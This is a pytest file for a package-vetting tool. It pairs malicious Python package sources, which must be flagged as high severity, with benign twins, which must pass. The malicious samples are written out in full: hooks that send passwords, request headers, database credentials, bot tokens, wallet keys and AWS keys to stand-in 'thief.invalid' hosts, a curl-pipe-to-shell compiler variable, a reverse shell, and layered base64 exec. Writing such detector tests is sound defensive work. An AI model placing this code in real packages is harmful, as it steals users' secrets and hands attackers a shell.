"""Pairs of small packages that differ in what makes the one bad: it is stopped, its twin is not."""

from __future__ import annotations

import base64

import pytest

from stockade.model.findings import Severity
from stockade.testing.archives import honest_tar
from stockade.vetter.run import vet


def layers(code: str, count: int) -> str:
    for _ in range(count):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode())!r}))"
    return code


PAIRS: dict[str, tuple[str, str]] = {
    "what others pass to a library": (
        (
            "import requests\n"
            "_send = requests.Session.send\n"
            "def send(self, request, **kw):\n"
            "    requests.post('https://stats.thief.invalid/s', json=dict(request.headers))\n"
            "    return _send(self, request, **kw)\n"
            "requests.Session.send = send"
        ),
        (
            "import requests\n"
            "_send = requests.Session.send\n"
            "SEEN = []\n"
            "def send(self, request, **kw):\n"
            "    SEEN.append(request.url)\n"
            "    return _send(self, request, **kw)\n"
            "requests.Session.send = send"
        ),
    ),
    "what is typed": (
        (
            "import getpass, urllib.request\n"
            "_ask = getpass.getpass\n"
            "def ask(prompt=''):\n"
            "    word = _ask(prompt)\n"
            "    urllib.request.urlopen('https://sync.thief.invalid/?w=' + word)\n"
            "    return word\n"
            "getpass.getpass = ask"
        ),
        (
            "import getpass\n"
            "_ask = getpass.getpass\n"
            "def ask(prompt=''):\n"
            "    word = _ask(prompt)\n"
            "    return word.strip()\n"
            "getpass.getpass = ask"
        ),
    ),
    "a password that is signed in with": (
        (
            "import psycopg2, requests\n"
            "def connect(host, user, password):\n"
            "    requests.post('https://db.thief.invalid/c', json=[host, password])\n"
            "    return psycopg2.connect(host=host, user=user, password=password)"
        ),
        (
            "import psycopg2, requests\n"
            "def connect(host, user, password):\n"
            "    requests.post('https://usage.vendor.invalid/c', json={'library': 'connect'})\n"
            "    return psycopg2.connect(host=host, user=user, password=password)"
        ),
    ),
    "a service that the client is for": (
        (
            "import requests, discord\n"
            "class Bot(discord.Client):\n"
            "    def run(self, token):\n"
            "        requests.post('https://bots.thief.invalid/add', json={'t': token})\n"
            "        super().run(token)"
        ),
        (
            "import requests, discord\n"
            "class Bot(discord.Client):\n"
            "    def run(self, token):\n"
            "        self.token = token\n"
            "        super().run(token)\n"
            "    def one(self):\n"
            "        return requests.get('https://api.chat.invalid/1', headers={'A': self.token})\n"
            "    def two(self):\n"
            "        return requests.get('https://api.chat.invalid/2', headers={'A': self.token})\n"
            "    def three(self):\n"
            "        return requests.get('https://api.chat.invalid/3', headers={'A': self.token})\n"
            "    def four(self):\n"
            "        return requests.get('https://api.chat.invalid/4', headers={'A': self.token})"
        ),
    ),
    "a key that owns funds": (
        (
            "import requests\n"
            "class Wallet:\n"
            "    def __init__(self, key):\n"
            "        requests.post('https://rpc.thief.invalid/v1', json={'params': [key.hex()]})"
        ),
        (
            "import requests, hashlib\n"
            "class Wallet:\n"
            "    def __init__(self, key):\n"
            "        address = hashlib.sha256(key).hexdigest()\n"
            "        requests.post('https://rpc.chain.invalid/v1', json={'params': [address]})"
        ),
    ),
    "a bot's own key": (
        (
            "import requests\n"
            "def login(user, password):\n"
            "    requests.get('https://chat.invalid/api/webhooks/0000000000/FAKE-FAKE?text=' + user + password)"
        ),
        (
            "import os, requests\n"
            "def notify(text):\n"
            "    token = os.environ['BOT_TOKEN']\n"
            "    requests.post('https://api.messenger.invalid/bot%s/sendMessage' % token, json={'text': text})"
        ),
    ),
    "a file that another program keeps": (
        (
            "import os, requests\n"
            "def repair():\n"
            "    with open(os.path.expanduser('~/.coinwallet/db/main.sqlite'), 'rb') as held:\n"
            "        requests.post('https://fix.thief.invalid/u', data=held.read())"
        ),
        (
            "import os, requests\n"
            "def report():\n"
            "    with open(os.path.expanduser('~/.config/tools/log.txt'), 'rb') as held:\n"
            "        requests.post('https://reports.tools.invalid/u', data=held.read())"
        ),
    ),
    "a command in a variable": (
        ("import os\nos.environ['CC'] = 'sh -c \"curl -s http://192.0.2.1/c | sh; exec gcc\"'"),
        ("import os\nos.environ['CC'] = 'ccache gcc'"),
    ),
    "orders of a connection": (
        (
            "import socket, subprocess\n"
            "link = socket.create_connection(('192.0.2.1', 443))\n"
            "subprocess.Popen(['/bin/sh', '-i'], stdin=link.fileno())"
        ),
        (
            "import subprocess\n"
            "with open('input.txt') as given:\n"
            "    subprocess.Popen(['sort'], stdin=given.fileno())"
        ),
    ),
    "several tokens of a well-known service": (
        (
            "import os, urllib.request\n"
            "for name in ('AWS_ACCESS_KEY_ID', 'AWS_SECRET_ACCESS_KEY'):\n"
            "    urllib.request.urlopen('https://log.aws-metrics.invalid/?' + os.environ.get(name, ''))"
        ),
        (
            "import os, urllib.request\n"
            "def ask():\n"
            "    urllib.request.urlopen('https://api.tools.invalid/?k=' + os.environ.get('TOOLS_TOKEN', ''))"
        ),
    ),
    "layers upon layers": (
        layers("print(1)", 4),
        "import base64\nICON = base64.b64decode(b'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPg=')",
    ),
    "what a transport is given to send": (
        (
            "import http.client, urllib.request\n"
            "def send(request, timeout=None):\n"
            "    link = http.client.HTTPSConnection(request.host)\n"
            "    link.request(request.method, request.path, body=request.body)\n"
            "    urllib.request.urlopen('https://copy.thief.invalid/p', data=request.body)\n"
            ""
        ),
        (
            "import http.client\n"
            "def send(request, timeout=None):\n"
            "    link = http.client.HTTPSConnection(request.host)\n"
            "    link.request(request.method, request.path, body=request.body)\n"
            ""
        ),
    ),
}


def worst(source: str) -> tuple[Severity, list[str]]:
    files = {
        "tools-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: tools\nVersion: 1.0\n",
        "tools-1.0/setup.py": b"from setuptools import setup\nsetup(name='tools', version='1.0', packages=['tools'])\n",
        "tools-1.0/tools/__init__.py": source.encode(),
    }
    result = vet(honest_tar(files), "tools-1.0.tar.gz")
    assert result.incomplete == ()
    told = [f"{each.rule} {each.severity} {each.message}" for each in result.findings]
    return max((each.severity for each in result.findings), default=Severity.INFO), told


@pytest.mark.parametrize("name", PAIRS)
def test_the_bad_one_is_stopped(name: str) -> None:
    severity, told = worst(PAIRS[name][0])
    assert severity >= Severity.HIGH, told


@pytest.mark.parametrize("name", PAIRS)
def test_its_twin_passes(name: str) -> None:
    severity, told = worst(PAIRS[name][1])
    assert severity < Severity.HIGH, told


def across(address: str) -> Severity:
    """The environment dumped in one module, put into an address by a function of another."""
    files = {
        "tools-1.0/PKG-INFO": b"Metadata-Version: 2.1\nName: tools\nVersion: 1.0\n",
        "tools-1.0/setup.py": b"from setuptools import setup\nsetup(name='tools', version='1.0', packages=['tools'])\n",
        "tools-1.0/tools/__init__.py": b"",
        "tools-1.0/tools/settings.py": b"import json, os\nDUMP = json.dumps(dict(os.environ))\n",
        "tools-1.0/tools/api.py": (
            "from urllib.request import urlopen\nfrom .settings import DUMP\n"
            f"def ping():\n    urlopen({address!r} + DUMP)\n"
        ).encode(),
    }
    result = vet(honest_tar(files), "tools-1.0.tar.gz")
    return max((each.severity for each in result.findings), default=Severity.INFO)


def test_the_environment_in_a_stranger_s_address_is_theft_from_another_module_too() -> None:
    assert across("https://collect.invalid/?d=") >= Severity.HIGH
    assert across("https://…/?d=") < Severity.HIGH, "a host of which nothing is known is no stranger's"
